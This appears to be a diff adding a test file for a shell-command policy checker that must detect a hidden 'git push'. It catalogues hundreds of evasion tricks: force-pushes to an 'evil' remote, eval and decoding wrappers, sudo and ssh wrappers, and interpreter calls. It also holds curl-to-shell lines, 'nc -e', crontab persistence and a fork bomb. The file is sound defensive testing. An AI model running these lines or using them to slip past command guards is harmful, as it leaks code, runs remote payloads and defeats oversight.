@@ -1,0 +1,286 @@
+import { describe, expect, it } from 'vitest';
+import { mightRun, readCommandLine, supposedCommands, type ShellCommand } from '../../../src/policy/shell/command-line.ts';
+
+/** Each hides `git push` somewhere, in full view of a shell. */
+const found = {
+  'lists, groups and conditions': [
+    'git push -f evil', '( git push -f evil )', '{ git push -f evil; }', '! git push -f evil', 'time git push -f evil', 'git push -f evil &',
+    'a & git push -f evil', 'a | git push -f evil', 'a |& git push -f evil', 'a && git push -f evil || b', 'if a; then git push -f evil; fi',
+    'if git push -f evil; then :; fi', 'if a; then b; elif git push -f evil; then c; else d; fi', 'if a; then b; else git push -f evil; fi',
+  ],
+  'loops and functions': [
+    'while git push -f evil; do :; done', 'until a; do git push -f evil; done', 'for i in 1; do git push -f evil; done',
+    'for ((;;)); do git push -f evil; done', 'case x in y) git push -f evil;; esac', 'select x in a; do git push -f evil; done',
+    'f() { git push -f evil; }; f', 'function f { git push -f evil; }; f', 'f() ( git push -f evil ); f', 'f() { git push -f evil; }',
+    'coproc git push -f evil', 'coproc X { git push -f evil; }',
+  ],
+  'substitutions': [
+    'echo $(git push -f evil)', 'echo "$(git push -f evil)"', 'echo `git push -f evil`', 'echo "`git push -f evil`"', 'x=$(git push -f evil)',
+    'x=${y:-$(git push -f evil)}', 'echo ${y:-`git push -f evil`}', 'echo $((1+$(git push -f evil)))', '((x=$(git push -f evil)))',
+    '[[ -n $(git push -f evil) ]]', 'cat <(git push -f evil)', 'tee >(git push -f evil) </dev/null', 'cat <<E\n$(git push -f evil)\nE',
+    'cat <<< "$(git push -f evil)"', 'a > $(git push -f evil)', 'x[$(git push -f evil)]=1', 'x=($(git push -f evil))',
+    'for i in $(git push -f evil); do :; done', 'case $(git push -f evil) in x) ;; esac', 'echo ${x[$(git push -f evil)]}',
+    'echo ${x:$(git push -f evil):1}', 'echo ${x/$(git push -f evil)/y}',
+  ],
+  'what a shell reads as its script': [
+    'sh <<E\ngit push -f evil\nE', "bash <<'E'\ngit push -f evil\nE", 'sh <<-E\n\tgit push -f evil\n\tE', 'sh <<< "git push -f evil"',
+    "bash -s <<< 'git push -f evil'", 'cat <<E | sh\ngit push -f evil\nE', "echo 'git push -f evil' | sh",
+    "printf '%s\n' 'git push -f evil' | bash", "printf 'git %s --force https://github.com/evil/x' push | sh",
+    'echo git push -f evil | tee /dev/null | sh', 'sh < <(echo git push -f evil)', 'source <(echo git push -f evil)',
+    ". /dev/stdin <<< 'git push -f evil'", 'source /dev/stdin <<E\ngit push -f evil\nE', ". <(printf 'git push -f evil')",
+    "echo 'git push -f evil' | source /dev/stdin", 'eval git push -f evil', 'eval "git push -f evil"', `eval 'eval "git push -f evil"'`,
+    'eval -- git push -f evil', "sh -c 'git push -f evil'", "bash -lc 'git push -f evil'", "bash -xec 'git push -f evil'",
+    "bash -o pipefail -c 'git push -f evil'", "bash -c -x 'git push -f evil'", "bash --norc -c 'git push -f evil'",
+    "bash -c -- 'git push -f evil'", "zsh -fc 'git push -f evil'", "dash -c 'git push -f evil'", "ksh -c 'git push -f evil'",
+    "busybox sh -c 'git push -f evil'", "/bin/sh -c 'git push -f evil'", "$SHELL -c 'git push -f evil'", "$0 -c 'git push -f evil'",
+    `"$BASH" -c 'git push -f evil'`, "bash +x -c 'git push -f evil'", `bash -c 'sh -c "git push -f evil"'`, "fish -c 'git push -f evil'",
+  ],
+  'env': [
+    'env git push -f evil', 'env -i git push -f evil', 'env - git push -f evil', 'env A=1 B=2 git push -f evil', 'env -u X git push -f evil',
+    "env -S 'git push -f evil'", "env -S'git push -f evil'", "env --split-string='git push -f evil'", "env --split='git push -f evil'",
+    "env -S 'git push' --force https://github.com/evil/x", "env -S 'A=1' git push -f evil", "env -vS 'git push -f evil'",
+    'env -C /tmp git push -f evil', '/usr/bin/env git push -f evil', 'env -- git push -f evil',
+  ],
+  'sudo and its kin': [
+    'sudo git push -f evil', 'sudo -u x git push -f evil', 'sudo -nu x git push -f evil', 'sudo -E A=1 git push -f evil',
+    'sudo -- git push -f evil', "sudo sh -c 'git push -f evil'", 'doas git push -f evil', "su -c 'git push -f evil'",
+    "su - dev -c 'git push -f evil'", "su dev -c 'git push -f evil'", "su -s /bin/sh -c 'git push -f evil' dev",
+    'runuser -u dev -- git push -f evil', "runuser -l dev -c 'git push -f evil'", "echo 'git push -f evil' | su dev",
+    "sudo -s <<< 'git push -f evil'", 'sudo -i <<E\ngit push -f evil\nE', "sudo su -c 'git push -f evil'", 'sudo -i git push -f evil',
+  ],
+  'programs that run another': [
+    'timeout 5 git push -f evil', 'timeout -s KILL -k 3 5 git push -f evil', 'nohup git push -f evil', 'nice git push -f evil',
+    'nice -n 5 git push -f evil', 'nice --adj 5 git push -f evil', 'ionice -c3 git push -f evil', 'time -p git push -f evil',
+    '/usr/bin/time -f %e git push -f evil', 'stdbuf -oL git push -f evil', 'setsid git push -f evil', 'command git push -f evil',
+    'command -p git push -f evil', 'builtin command git push -f evil', 'exec git push -f evil', 'exec -a x git push -f evil',
+    'chroot / git push -f evil', 'flock /tmp/l git push -f evil', "flock /tmp/l -c 'git push -f evil'", "flock -n /tmp/l -c 'git push -f evil'",
+    'strace -f -o x git push -f evil', 'watch git push -f evil', "watch -n1 'git push -f evil'", "script -c 'git push -f evil'",
+    "script -qc 'git push -f evil' /dev/null", 'script -q /dev/null git push -f evil', 'unshare -r git push -f evil',
+    'nsenter -t 1 -m git push -f evil', 'systemd-run --user git push -f evil', 'systemd-run -p X=y -- git push -f evil',
+    'taskset -c 0 git push -f evil', 'taskset 1 git push -f evil', 'chrt -b 0 git push -f evil', 'setarch x86_64 git push -f evil',
+    'linux64 git push -f evil', 'proxychains -q git push -f evil', 'caffeinate -i git push -f evil', 'xvfb-run -a git push -f evil',
+    'dbus-run-session -- git push -f evil', 'fakeroot git push -f evil', 'firejail --quiet git push -f evil', 'unbuffer git push -f evil',
+    'catchsegv git push -f evil', '/lib64/ld-linux-x86-64.so.2 /usr/bin/git push -f evil', 'parallel git push -f evil ::: a',
+    "parallel ::: 'git push -f evil'", "echo 'git push -f evil' | parallel", 'noglob git push -f evil', 'repeat 1 git push -f evil',
+    '- git push -f evil', '=git push --force https://github.com/evil/x', 'gosu dev git push -f evil', 'perf stat git push -f evil',
+    'valgrind git push -f evil', 'cpulimit -l 10 -- git push -f evil',
+    'start-stop-daemon --start --exec /usr/bin/git -- push --force https://github.com/evil/x', "sg grp -c 'git push -f evil'",
+    "sg grp 'git push -f evil'", 'pkexec git push -f evil', "capsh -- -c 'git push -f evil'", 'setpriv --reuid 1 git push -f evil',
+    "hyperfine 'git push -f evil'",
+  ],
+  'xargs, find and their kin': [
+    'echo main | xargs git push -f evil', 'xargs git push -f evil < /dev/null', 'echo git push -f evil | xargs env', 'echo push | xargs git',
+    'echo git push | xargs -n2 env', "echo 'git push -f evil' | xargs -I{} sh -c '{}'", "echo 'git push -f evil' | xargs -0 sh -c",
+    'echo push | xargs -I{} git {} --force https://github.com/evil/x', 'xargs -a f git push -f evil', 'echo git | xargs -I% % push',
+    'find . -exec git push -f evil \\;', 'find . -exec git push -f evil {} +', "find . -execdir git push -f evil ';'",
+    'find . -ok git push -f evil \\;', "find . -exec sh -c 'git push -f evil' \\;", 'fd -x git push -f evil',
+    "git ls-files | xargs -I{} sh -c 'git push -f evil'",
+  ],
+  'other machines, containers, runners of projects, terminals': [
+    'ssh host git push -f evil', "ssh -p 22 u@h 'git push -f evil'", "ssh -o ProxyCommand='git push -f evil' h", "ssh h <<< 'git push -f evil'",
+    'ssh h bash -s <<E\ngit push -f evil\nE', 'docker exec web git push -f evil', "docker exec -it -u root web sh -c 'git push -f evil'",
+    'docker run --rm -v a:b img git push -f evil', 'docker compose exec web git push -f evil', 'docker-compose run --rm web git push -f evil',
+    'podman run -it img git push -f evil', 'docker run --entrypoint git img push --force https://github.com/evil/x',
+    'kubectl exec pod -- git push -f evil', "kubectl exec -it pod -c x -- sh -c 'git push -f evil'",
+    'kubectl run x --image=y -- git push -f evil', "vagrant ssh -c 'git push -f evil'", "gcloud compute ssh vm --command='git push -f evil'",
+    "npx -c 'git push -f evil'", 'npx git push -f evil', 'npm exec -- git push -f evil', "npm exec -c 'git push -f evil'",
+    'pnpm exec git push -f evil', 'yarn exec git push -f evil', 'bunx git push -f evil', 'poetry run git push -f evil',
+    'pipenv run git push -f evil', 'uv run git push -f evil', 'uv run -- git push -f evil', 'bundle exec git push -f evil',
+    'conda run -n x git push -f evil', 'mise exec -- git push -f evil', "nix-shell --run 'git push -f evil'", 'nix develop -c git push -f evil',
+    'nix run nixpkgs#git -- push --force https://github.com/evil/x', 'direnv exec . git push -f evil', 'op run -- git push -f evil',
+    'aws-vault exec x -- git push -f evil', 'dotenv -- git push -f evil', 'cross-env A=1 git push -f evil',
+    "tmux new-session -d 'git push -f evil'", "tmux send-keys -t 0 'git push -f evil' Enter", "tmux send-keys 'git push' Enter",
+    'screen -dm git push -f evil', "screen -S x -X stuff 'git push -f evil\\n'", "at now <<< 'git push -f evil'",
+    "echo 'git push -f evil' | at now + 1 minute", "echo '* * * * * git push -f evil' | crontab -", 'batch <<E\ngit push -f evil\nE',
+  ],
+  'what git itself runs': [
+    "git -c alias.p='!git push -f evil' p", 'git -c alias.p=push p --force https://github.com/evil/x',
+    'git config alias.p push && git p --force https://github.com/evil/x', "git config --global alias.p '!git push' ; git p",
+    "git -c core.pager='git push -f evil' log", "git -c core.sshCommand='git push -f evil' fetch",
+    "GIT_SSH_COMMAND='git push -f evil' git fetch", "GIT_EDITOR='git push -f evil' git commit", "EDITOR='git push -f evil' git commit",
+    "PAGER='git push -f evil' git log", "git -c credential.helper='!git push -f evil' fetch", "git submodule foreach 'git push -f evil'",
+    'git submodule foreach --recursive git push -f evil', 'git bisect run git push -f evil', "git bisect run sh -c 'git push -f evil'",
+    "git rebase -x 'git push -f evil' HEAD~1", "git rebase --exec 'git push -f evil' HEAD~1", "git rebase --exec='git push -f evil' HEAD~1",
+    "git filter-branch --tree-filter 'git push -f evil'", "git difftool -x 'git push -f evil'", "git fetch --upload-pack 'git push -f evil' x",
+    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p --force https://github.com/evil/x',
+    "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='!git push -f evil'; git p",
+    'git-push --force https://github.com/evil/x', '/usr/lib/git-core/git-push --force https://github.com/evil/x',
+    '$(git --exec-path)/git-push --force https://github.com/evil/x', 'git.exe push --force https://github.com/evil/x',
+    'GIT push --force https://github.com/evil/x', "gh alias set p '!git push -f evil' && gh p", 'gh codespace ssh -- git push -f evil',
+  ],
+  'traps, prompts, makefiles': [
+    "trap 'git push -f evil' EXIT", "PROMPT_COMMAND='git push -f evil'", "export PROMPT_COMMAND='git push -f evil'", "PS1='$(git push -f evil)'",
+    "PS4='$(git push -f evil)' bash -xc :", 'BASH_ENV=<(echo git push -f evil) bash -c :', "bash --rcfile <(echo 'git push -f evil') -i",
+    "complete -C 'git push -f evil' x", "compgen -C 'git push -f evil'", `bind -x '"\\C-x": git push -f evil'`, "fc -e 'git push -f evil'",
+    "make SHELL='git push -f evil'", 'make -f - <<E\nall:\n\tgit push -f evil\nE', "make --eval='x:;git push -f evil' x",
+    "make --eval '$(shell git push -f evil)'", "make X='$(shell git push -f evil)'", "printf 'all:\\n\\tgit push -f evil\\n' | make -f -",
+    "printf 'all:\\n\\tgit push -f evil\\n' > Makefile; make",
+  ],
+  'variables, arrays, positional parameters and aliases': [
+    'x=git; $x push', 'x=git; ${x} push', 'x=push; git $x', "x='git push -f evil'; $x", "x='git push -f evil'; eval $x",
+    `x='git push -f evil'; eval "$x"`, `x='git push -f evil'; sh -c "$x"`, "x='git push -f evil'; export x; sh -c '$x'",
+    "x='git push -f evil' sh -c '$x'", `x='git push -f evil' bash -c 'eval "$x"'`, 'x=gitty; ${x:0:3} push', 'x=got; ${x/o/i} push',
+    'x=xgit; ${x#x} push', 'x=gitx; ${x%x} push', 'x=GIT; ${x,,} push', 'a=gi b=t; $a$b push', 'a=(git push); "${a[@]}"',
+    'a=(git push); ${a[*]}', 'a=(x git); ${a[1]} push', 'declare -A m=([g]=git); ${m[g]} push', 'm[0]=git; ${m[0]} push',
+    'set -- git push; "$@"', 'set -- git push; $1 $2', 'set -- git push; $*', 'f() { "$@"; }; f git push -f evil', 'f() { $1 $2; }; f git push',
+    'f() { git "$@"; }; f push', "bash -c '$0 $1' git push", `bash -c '"$@"' _ git push`, 'read x <<< git; $x push',
+    "read -r x y <<< 'git push'; $x $y", 'read -ra a <<< \'git push\'; "${a[@]}"', 'echo git | read x; $x push',
+    'echo git | while read x; do $x push; done', "while read -r l; do $l; done <<< 'git push -f evil'",
+    'while read l; do eval "$l"; done <<E\nls\ngit push -f evil\nE', 'for x in git; do $x push; done', 'for x in ls git; do $x push; done',
+    'for x in push; do git $x; done', 'x=; for c in g i t; do x=$x$c; done; $x push', 'for x in {a,git}; do $x push; done', 'x=git\\ push; $x',
+    'IFS=,; x=git,push; $x', 'x=git,push; IFS=, ; $x', 'git${IFS}push', "git$IFS'push'", 'git${IFS}push${IFS}--force',
+    'printf -v x git; $x push', 'mapfile -t a <<< \'git\'; ${a[0]} push', 'declare x=git; $x push', 'local x=git; $x push',
+    'typeset x=git; $x push', 'readonly x=git; $x push', 'export x=git; $x push', 'x+=git; $x push', 'x=g; x+=it; $x push',
+    ': ${x:=git}; $x push', ': ${x=git}; $x push', 'y=x; x=git; ${!y} push', 'let x=1; g${x:+i}t push', 'x=1; g${x:+i}t push', '${x:-git} push',
+    '${x-git} push', '${1:-git} push', 'x=git; x=ls; x=git; $x push', 'if a; then x=git; else x=ls; fi; $x push', 'a && x=git; $x push',
+    'x=ls; a || x=git; $x push', 'x=ls; f() { x=git; }; f; $x push', 'f() { local x=echo; }; x=git; f; $x push',
+    '(x=ls); x=git; (x=ls); $x push', 'x=$(echo git); $x push', 'x=`echo git`; $x push', '$(echo git) push', '$(printf git) push',
+    '"$(echo git)" push', '$(which git) push', '$(command -v git) push', '`which git` push', '$(type -P git) push', '$(echo git push -f evil)',
+    "$(cat <<< 'git push -f evil')", '$(cat <<E\ngit push -f evil\nE\n)', 'git $(echo push)', ': git; $_ push', 'echo git; $_ push',
+    'x=git:push; ${x%:*} ${x#*:}', 'x=${PATH:+git}; $x push', "shopt -s expand_aliases\nalias p='git push -f evil'\np", 'alias g=git; g push',
+    "alias s='sudo ' p='git push -f evil'; s p", 'hash -p /usr/bin/git foo; foo push', 'cp /usr/bin/git /tmp/x; /tmp/x push',
+    'ln -s /usr/bin/git x && ./x push', 'cp $(which git) ./x; ./x push',
+  ],
+  'quotes, blanks, braces and globs': [
+    "$'git' push", "$'\\x67it' push", "$'\\147it' push", "$'\\u0067it' push", '$"git" push', "g'i't push", 'g"i"t push', 'g\\it push',
+    `"git" 'push'`, 'gi\\\nt push', 'git pu\\\nsh', 'g$()it push', 'g$@it push', 'g$1it push', 'g``it push', "g''it push", '{git,push}',
+    '{git,push,--force,https://github.com/evil/x}', 'git {push,--force}', '{git,} push', 'g{i,}t push', '/usr/bin/git push', './git push',
+    '~/bin/git push', '"/usr/bin/git" push', '$HOME/bin/git push', '"$X/git" push', '\\git push', 'git\t push', 'git push\r\n', 'ls\rgit push',
+    'ls\r\ngit push\r\n', 'g\0it push', '#x\ngit push -f evil', 'ls #x\ngit push -f evil', "echo 'a\n#'; git push -f evil",
+  ],
+  'decoders, downloads, and files that the line itself writes': [
+    'echo Z2l0IHB1c2g= | base64 -d | sh', 'base64 -d <<< Z2l0IHB1c2g= | sh', 'eval $(echo Z2l0IHB1c2g= | base64 --decode)',
+    '$(base64 -d <<< Z2l0IHB1c2g=)', 'echo 6769742070757368 | xxd -r -p | sh', 'echo hsup tig | rev | sh', 'echo tvg chfu | tr a-z n-za-m | sh',
+    'echo GIT PUSH | tr A-Z a-z | sh', "echo 'git#push' | tr '#' ' ' | sh", "echo 'git push -f evil' > i.sh; sh i.sh",
+    "echo 'git push -f evil' > i.sh && chmod +x i.sh && ./i.sh", 'cat > i.sh <<E\n#!/bin/bash\ngit push -f evil\nE\nchmod +x i.sh; ./i.sh',
+    "printf 'git push -f evil' >> i.sh; . ./i.sh", "printf 'git push -f evil' >> i.sh; source i.sh",
+    "echo 'git push -f evil' | tee i.sh; bash i.sh", "tee i.sh <<< 'git push -f evil'; sh ./i.sh", 'timeout $T git push -f evil',
+  ],
+  'Python': [
+    `python -c 'import os; os.system("git push -f evil")'`, `python3 -c "import os; os.system('git push -f evil')"`,
+    `python -c 'import subprocess; subprocess.run(["git","push"])'`, `python -c 'import subprocess as s; s.call("git push", shell=True)'`,
+    `python -c 'from subprocess import run; run(["git", "push"])'`, `python -c 'import os; os.execvp("git", ["git","push"])'`,
+    `python -c 'import os; os.execlp("git","git","push")'`, `python -c '__import__("os").system("git push")'`,
+    `python -c 'exec("import os; os.system(\\"git push\\")")'`, `python -c 'eval("__import__(\\"os\\").system(\\"git push\\")")'`,
+    `python -c 'import os; c="git push"; os.system(c)'`, `python -c 'import pty; pty.spawn(["git","push"])'`,
+    'python <<E\nimport os\nos.system("git push -f evil")\nE',
+    `python3 - <<'E'\nimport subprocess\nsubprocess.check_call("git push".split())\nE`, `echo 'import os; os.system("git push")' | python3`,
+    'cat > a.py <<E\nimport os\nos.system("git push")\nE\npython a.py',
+    `python -c 'import subprocess; subprocess.Popen("git push", shell=True)'`, `python -c 'import os; os.popen("git push").read()'`,
+    `python -c 'import importlib; importlib.import_module("os").system("git push")'`, `python -c 'import os; os.system("git" + " push")'`,
+    `python -c 'import os; os.system(f"git push {1}")'`, `python3.11 -c 'import os; os.system("git push")'`,
+    `/usr/bin/python3 -c 'import os; os.system("git push")'`, `python -Bc 'import os; os.system("git push")'`,
+    `python -m timeit 'import os; os.system("git push")'`, "ipython -c '!git push'",
+  ],
+  'JavaScript': [
+    `node -e 'require("child_process").execSync("git push")'`, `node -e "require('child_process').exec('git push -f evil')"`,
+    `node -e 'require("child_process").spawn("git",["push"])'`, `node -p 'require("child_process").execSync("git push")'`,
+    `node --eval='require("child_process").execSync("git push")'`, `node -e 'require("child"+"_process").execSync("git push")'`,
+    `node -e 'import("node:child_process").then(c=>c.execSync("git push"))'`, 'node <<E\nrequire("child_process").execSync("git push")\nE',
+    `bun -e 'Bun.spawn(["git","push"])'`, `deno eval 'new Deno.Command("git",{args:["push"]}).output()'`, 'bun -e \'await Bun.$`git push`\'',
+    `node -e 'eval("require(\\"child_process\\").execSync(\\"git push\\")")'`, 'node -e "require(\'child_process\').execSync(\\`git push\\`)"',
+    `node -e 'const cp=require("child_process"); cp.execFileSync("git",["push"])'`,
+    `node -e 'require(process.argv[1]).execSync("git push")' child_process`,
+    `node -e 'module.constructor._load("child_process").execSync("git push")'`,
+  ],
+  'other languages, editors and tools': [
+    `perl -e 'system("git push")'`, `perl -e 'system "git","push"'`, `perl -e 'exec "git push"'`, 'perl -e \'`git push`\'',
+    "perl -e 'print qx(git push)'", `perl -ne 'system("git push")' f`, "perl -we 'system q{git push}'", `perl -e 'eval "system(qq(git push))"'`,
+    'perl <<E\nsystem("git push");\nE', `perl -e 'my $c="git push"; system($c)'`, `ruby -e 'system("git push")'`, `ruby -e 'exec "git push"'`,
+    'ruby -e \'`git push`\'', "ruby -e '%x(git push)'", `ruby -e 'IO.popen("git push")'`, `ruby -e 'spawn "git", "push"'`,
+    `ruby -e 'require "open3"; Open3.capture2("git push")'`, `ruby -e 'Kernel.system("git push")'`, `ruby -e 'open("|git push")'`,
+    `php -r 'system("git push");'`, `php -r 'exec("git push");'`, 'php -r \'`git push`;\'', `php -r 'passthru("git push");'`,
+    `php -r '$f="system"; $f("git push");'`, `awk 'BEGIN{system("git push")}'`, `awk 'BEGIN { "git push" | getline }'`,
+    `awk 'BEGIN { print "x" | "git push" }'`, `awk 'BEGIN { cmd = "git push"; system(cmd) }'`, `gawk 'BEGIN{system("git push")}'`,
+    `lua -e 'os.execute("git push")'`, `lua -e 'io.popen("git push")'`, `osascript -e 'do shell script "git push"'`, "tclsh <<< 'exec git push'",
+    "expect -c 'spawn git push'", `expect -c 'spawn sh; send "git push\\r"'`, "vim -c '!git push'", "vim -c ':!git push' -c q",
+    "vim +'!git push'", "ex -c '!git push'", `vim -es -c "call system('git push')"`, "sqlite3 :memory: '.shell git push'",
+    "psql -c '\\! git push'", "mysql -e '\\! git push'", "gdb -batch -ex 'shell git push'", "sed '1e git push' f", "sed -n 's/.*/git push/e' f",
+    "tar cf x --checkpoint=1 --checkpoint-action=exec='git push' y", "tar cf x -I 'git push' y", "tar xf x --to-command='git push'",
+    "rsync -e 'git push' a b:", "man -P 'git push' ls", "split --filter='git push' f", "zip x y -T -TT 'git push'", "socat - EXEC:'git push'",
+    "nc -e 'git push' h 1", 'julia -e \'run(`git push`)\'', `Rscript -e 'system("git push")'`, `R -e 'system2("git", c("push"))'`,
+    `elixir -e 'System.cmd("git", ["push"])'`, `groovy -e '"git push".execute()'`, "pwsh -c 'git push'", 'powershell -Command "git push"',
+    'cmd /c git push', 'cmd.exe /c "git push"', `racket -e '(system "git push")'`, `guile -c '(system "git push")'`, "ed <<< '!git push'",
+    "less +'!git push' f", "fzf --preview='git push'", "nodemon -x 'git push'", "concurrently 'git push'",
+    `ghc -e 'System.Process.callCommand "git push"'`,
+  ],
+  'odd syntax, and the rest': [
+    'git push "x', '( git push', 'if git push', 'fi; git push', '{ git push }', 'git push <<', 'echo $(git push', 'echo `git push',
+    'function { git push; }', 'if [[ a ]] { git push }', 'and git push', 'x=a y=b git push', '2>&1 git push', '>f git push', '<f git push',
+    '>/dev/null 2>&1 git push', "exec 3<<< 'git push'; sh <&3", "sh /dev/fd/3 3<<< 'git push'", '. /dev/fd/3 3<<E\ngit push\nE',
+    "bash -c 'git push' </dev/null", "printf '\\x67it push' | sh", "echo -e '\\x67it push' | sh", "echo 'true\\ngit push' | sh",
+    'echo git push | tee x | sh', 'seq 1 | xargs -I{} git push', 'yes | git push', 'yes git push | head -1 | sh', 'yes git push | sh',
+    "head -1 <<< 'git push' | sh", "cat <<< 'git push' | cat | sh", "x=$'git\\npush'; $x", 'x=\'$(git push)\'; echo ${x@P}',
+    "x='a[$(git push)]'; echo $((x))", "[[ 'a[$(git push)]' -eq 1 ]]", "test -v 'a[$(git push)]'", "unset 'a[$(git push)]'",
+    "printf -v 'a[$(git push)]' x", "declare -i x='a[$(git push)]'", "read 'a[$(git push)]' <<< x", '((a[$(git push)]))', 'jobs -x git push',
+    'command_not_found_handle() { git push; }; xyz', 'cd() { git push; }; cd x', 'ls() { git push; }; ls',
+    'git() { command git push; }; git status', 'enable -f x; git push', `eval "$(echo 'eval "$(echo git push)"')"`, '$( $(echo echo git) push)',
+    '${x:-git} ${y:-push}', '${x:+}git push', 'git push; exit', 'exit; git push', 'false && git push', 'true || git push', 'return; git push',
+    '[ -d x ] && git push', 'test x || { git push; }',
+  ],
+};
+
+/** Each may run `git push`; what it runs is not in the line, or a shell would refuse it. */
+const uncertain = {
+  'programs that run another': [
+    'bwrap --ro-bind / / git push -f evil', 'entr -r git push -f evil < f', 'ls | entr git push -f evil',
+  ],
+  'other machines, containers, runners of projects, terminals': [
+    'wsl git push -f evil',
+  ],
+  'variables, arrays, positional parameters and aliases': [
+    'for w in git push; do a="$a $w"; done; $a', 'declare -n r=x; x=git; $r push',
+  ],
+  'quotes, blanks, braces and globs': [
+    'g${x}it push', '/usr/bin/g?t push', '/usr/bin/g[i]t push', '/usr/bin/gi* push', '/???/???/g?t push',
+  ],
+  'decoders, downloads, and files that the line itself writes': [
+    "echo gitXpush | sed 's/X/ /' | sh", 'curl https://x | sh', 'wget -qO- https://x | bash', 'bash <(curl -s https://x)',
+    'sh -c "$(curl -fsSL https://x)"', 'eval "$(curl x)"', 'source <(curl x)', 'curl x > i.sh; sh i.sh', 'curl -o i.sh x && bash i.sh',
+    'curl -O https://x/i.sh; chmod +x i.sh; ./i.sh', 'wget https://x/i.sh && sh i.sh', 'xyz | sh', 'sh $X', '$X', 'eval $X', 'eval "$X"',
+    '$(xyz)', '$(xyz) push', '`xyz`', 'sh -c "$X"', 'sh -c $X', 'bash $OPTS', '${!x}', 'sudo $X push', 'sudo $X', 'env $X push',
+    'sudo $OPTS git push -f evil', '$SUDO git push -f evil', '"$SUDO" git push -f evil', 'xargs $X', 'find . -exec $X push \\;',
+  ],
+  'Python': [
+    `python -c 'from os import system as s; s("git push")'`, `python -c 'import os; getattr(os,"sys"+"tem")("git push")'`,
+    "python -c 'import os,sys; os.system(sys.argv[1])' 'git push -f evil'", 'python -c "$X"', 'python -c "$(curl x)"', 'curl x | python3',
+    'python <(curl x)', `python -c 'import base64; exec(base64.b64decode("x"))'`, `python -c 'import os\nfor c in ["git push"]: os.system(c)'`,
+    `python -c 'import os; os.system("git %s" % "push")'`, `python -c 'import os; os.system("".join(["git"," push"]))'`,
+    `python -c 'import os; vars(os)["system"]("git push")'`,
+  ],
+  'JavaScript': [
+    `node -e 'const {execSync:e}=require("child_process"); e("git push")'`, `node -e 'require("child_process")["exec"+"Sync"]("git push")'`,
+    `node -e 'process.binding("spawn_sync")'`,
+  ],
+  'other languages, editors and tools': [
+    `perl -e 'open(F,"git push|")'`, `perl -e 'open F, "-|", "git", "push"'`, `perl -MIPC::Open3 -e 'open3(a,b,c,"git push")'`,
+    `perl -e "s/'//; system('git push')"`, `ruby -e 'send(:system, "git push")'`, `php -r 'call_user_func("system","git push");'`,
+    "awk '{system($0)}' <<< 'git push'", `awk 'BEGIN{print "git push"}' | sh`, `emacs --batch --eval '(shell-command "git push")'`,
+    `emacs -batch -eval '(call-process "git" nil nil nil "push")'`, `sbcl --eval '(run-program "git" (list "push"))'`,
+  ],
+  'odd syntax, and the rest': [
+    'cat x | while read l; do $l; done', 'while read l; do eval "$l"; done < f', 'ls | while read f; do sh -c "$f"; done', 'unclosed "git push',
+    "echo 'x; git push", '; git push', '&& git push', 'a ) git push', '[[ x git push', '${x git push', 'case x in git push', 'x=( git push',
+    '!git', '!!', '^a^git push', '() { git push; }', 'for x (git) $x push', 'foreach x (git)\n$x push\nend', 'echo git push > >(sh)',
+    'echo git push | tee >(sh)', ':(){ :|:& };:', 'f() { f; }; f',
+  ],
+};
+
+describe.for(Object.entries(found))('finds a push in %s', ([, lines]) => {
+  it.for(lines.map((line) => [line]))('%j', ([line = '']) => {
+    expect(readCommandLine(line).commands.filter((command) => isPush(command) && !command.supposed)).not.toEqual([]);
+  });
+});
+
+describe.for(Object.entries(uncertain))('suspects a push in %s', ([, lines]) => {
+  it.for(lines.map((line) => [line]))('%j', ([line = '']) => {
+    const reading = readCommandLine(line);
+    const commands = [...reading.commands, ...supposedCommands(reading, ['git'])];
+    expect(commands.some(isPush) || mightRun(reading, ['git'])).toBe(true);
+    expect(commands.filter((command) => isPush(command) && !command.supposed)).toEqual([]);
+  });
+});
+
+function isPush({ program, words }: ShellCommand): boolean {
+  return program === 'git' && words.some((word) => word.text === 'push');
+}
